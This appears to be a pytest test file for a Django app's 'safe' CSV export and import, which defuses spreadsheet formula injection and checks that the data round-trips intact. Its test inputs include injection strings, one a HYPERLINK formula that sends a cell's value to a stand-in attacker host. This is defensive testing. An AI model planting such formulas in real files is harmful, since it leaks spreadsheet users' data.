"""CSV that no spreadsheet runs: `safe=true` of exports, and back by `safe=true` of imports."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from apikeys.models import Role
from apikeys.services.members import member_create
from config.formulas import harmless, restored
from metadata.models import Workspace
from tests.factories import Api, api_of, workspace_with

THINGS = {
    "nameSingular": "thing",
    "namePlural": "things",
    "fields": [{"type": "TEXT", "name": "note"}, {"type": "NUMBER", "name": "amount"}],
}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "＝1+1",
]
PLAIN = ["a=b", "O'Hara", "'tis", "1-2", "mail@example.com", "'", " =1"]
ODD = ["'=1", "''+1", "'" * 3 + "@"]
ALL = FORMULAS + PLAIN + ODD


@pytest.fixture
def things(db: Any) -> Workspace:
    return workspace_with([THINGS])


@pytest.fixture
def api(things: Workspace) -> Api:
    made = api_of(things)
    assert made.post("/rest/batch/things", [{"note": text, "amount": -5} for text in ALL]).status == 201
    return made


def exported(client: Client, url: str, **headers: str) -> tuple[str, list[dict[str, str]], bytes]:
    """The file's name, its rows, and its bytes."""
    response = client.get(url, headers=headers)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    rows = list(csv.DictReader(StringIO(raw.decode(), newline="")))
    return response["Content-Disposition"].partition("filename=")[2].strip('"'), rows, raw


def bearer(api: Api) -> dict[str, str]:
    return {"Authorization": f"Bearer {api.token}"}


@given(st.text(st.sampled_from("'=+-@\t\r\n＝a0 "), max_size=6) | st.text(max_size=20))
def test_what_is_made_harmless_is_no_formula_and_comes_back_whole(text: str) -> None:
    made = harmless(text)
    assert not made.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert restored(made) == text


def test_a_safe_export_has_no_formulas_and_leaves_all_else(api: Api) -> None:
    name, rows, _ = exported(api.client, "/rest/things/export?safe=true", **bearer(api))
    assert name == "things.safe.csv"
    assert [row["note"] for row in rows] == [f"'{text}" for text in FORMULAS] + PLAIN + [f"'{text}" for text in ODD]
    assert {row["amount"] for row in rows} == {"-5"}  # a number is no formula


@pytest.mark.parametrize("query", ["", "?safe=false", "?safe=0"])
def test_without_it_the_file_holds_the_texts_themselves(api: Api, query: str) -> None:
    name, rows, _ = exported(api.client, f"/rest/things/export{query}", **bearer(api))
    assert (name, [row["note"] for row in rows]) == ("things.csv", ALL)


def test_json_lines_are_not_for_spreadsheets(api: Api) -> None:
    response = api.client.get("/rest/things/export?safe=true&format=jsonl", headers=bearer(api))
    assert response["Content-Disposition"] == 'attachment; filename="things.jsonl"'
    assert b'"note":"+1+1"' in b"".join(response.streaming_content)  # type: ignore[attr-defined]


def test_it_is_true_or_false(api: Api) -> None:
    answer = api.get("/rest/things/export?safe=maybe")
    assert (answer.status, answer.body["messages"]) == (
        400,
        ["'safe=maybe' parameter invalid. Allowed values are true, false"],
    )


@pytest.mark.parametrize("safe", ["true", "false"])
def test_an_export_is_imported_again_as_it_was(api: Api, safe: str) -> None:
    _, _, raw = exported(api.client, f"/rest/things/export?safe={safe}&fields=note,amount", **bearer(api))
    other = api_of(workspace_with([THINGS], name="Other"))
    url = f"/rest/things/import?safe={safe}&format=csv&upsert=true"
    response = other.client.post(url, raw, "text/csv", headers=bearer(other))
    assert response.json()["data"]["import"]["created"] == len(ALL)
    assert sorted(each["note"] for each in other.records("/rest/things")) == sorted(ALL)


def test_the_command_has_it_too(api: Api, things: Workspace, tmp_path: Path) -> None:
    file = tmp_path / "things.csv"
    common = ["--workspace", str(things.id), "--object", "thing"]
    call_command("records", "export", str(file), *common, "--safe", stdout=StringIO())
    assert "'+1+1" in file.read_text()
    said = StringIO()
    call_command("records", "import", str(file), *common, "--safe", "--upsert", stdout=said)
    assert said.getvalue() == f"{len(ALL)} read, 0 created, {len(ALL)} updated, 0 failed\n"
    assert sorted(each["note"] for each in api.records("/rest/things")) == sorted(ALL)


@pytest.fixture
def browser(things: Workspace) -> Client:
    role = Role.objects.get(workspace_id=things.id, label="Admin")
    member = member_create(workspace=things, email="ada@example.com", password="correct horse", role=role)
    client = Client()
    client.force_login(member.user)
    return client


def test_on_pages_it_is_the_default(api: Api, browser: Client) -> None:
    page = browser.get("/settings/docs/objects/thing").content.decode()
    assert 'href="/settings/docs/objects/thing/export">Download CSV' in page
    name, rows, _ = exported(browser, "/settings/docs/objects/thing/export")
    assert name == "things.safe.csv"
    assert "'+1+1" in {row["note"] for row in rows}
    name, rows, _ = exported(browser, "/settings/docs/objects/thing/export?safe=false")
    assert (name, [row["note"] for row in rows]) == ("things.csv", ALL)


def test_the_file_of_the_page_is_for_members_who_may_read_the_object(things: Workspace, browser: Client) -> None:
    url = "/settings/docs/objects/thing/export"
    assert Client().get(url).status_code == 302
    assert browser.get("/settings/docs/objects/nothing/export").status_code == 404
    other = workspace_with(name="Other")
    role = Role.objects.get(workspace_id=other.id, label="Admin")
    stranger = member_create(workspace=other, email="eve@example.com", password="correct horse", role=role)
    client = Client()
    client.force_login(stranger.user)
    assert client.get(url).status_code == 404
